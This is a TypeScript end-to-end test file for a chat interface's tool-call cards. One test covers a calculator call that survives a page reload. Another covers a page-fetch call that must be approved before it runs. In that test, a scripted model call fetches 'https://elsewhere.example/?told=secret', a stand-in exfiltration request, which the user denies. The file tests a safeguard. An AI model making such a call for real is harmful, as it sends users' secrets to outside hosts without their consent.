import { ask, button, lastAnswer, messageField, prose, send, settled, words } from './desk.ts';
import { enter } from './house.ts';
import { inspect } from './inspect.ts';
import { expect, test, useHouse } from './test.ts';

const house = useHouse({ provider: 'openai' });
const { tools } = words;

test.beforeEach(async ({ page, context }) => {
  house().fake.script({});
  await enter(context, await house().person());
  await page.goto(house().url);
  await expect(messageField(page)).toBeVisible();
});

const card = (page: Parameters<typeof messageField>[0], name: string) =>
  lastAnswer(page).getByRole('region', { name, exact: true });

test('a call of a tool is a card that opens, and is the same after a reload', async ({ page }) => {
  house().fake.script({
    reasoning: 'It has to be multiplied.',
    toolCalls: [{ name: 'calculator', arguments: { expression: '(2 + 3) * 8.4' } }],
  });
  const answer = await ask(page, 'How much do five of them cost?');
  await expect(prose(answer)).toContainText('The tools said: 42');
  for (const again of [false, true]) {
    if (again) await page.reload();
    await expect(card(page, 'Calculator')).toContainText(tools.done);
    await card(page, 'Calculator').getByRole('button').press('Enter');
    await expect(card(page, 'Calculator').getByRole('group', { name: tools.result })).toHaveText('42');
  }
  await inspect(page);
});

test('a tool that would reach further asks first; another device answers, by the keyboard alone', async ({
  page,
  context,
}) => {
  await page.getByRole('button', { name: /^Tools/ }).click();
  await page.getByRole('menuitemcheckbox', { name: /Read a web page/ }).click();
  await page.keyboard.press('Escape');
  house().fake.script({
    toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://elsewhere.example/?told=secret' } }],
  });
  await send(page, 'What does my letter say?');
  await expect(card(page, 'Read a web page')).toContainText(tools.question('Read a web page'));
  await expect(card(page, 'Read a web page')).toContainText('https://elsewhere.example/?told=secret');
  await inspect(page);

  const other = await context.newPage();
  await other.goto(page.url());
  await button(card(other, 'Read a web page'), tools.deny).focus();
  await other.keyboard.press('Enter');
  await settled(lastAnswer(page));
  await expect(card(page, 'Read a web page')).toContainText(tools.denied);
  await expect(button(card(page, 'Read a web page'), tools.deny)).toBeHidden();
});
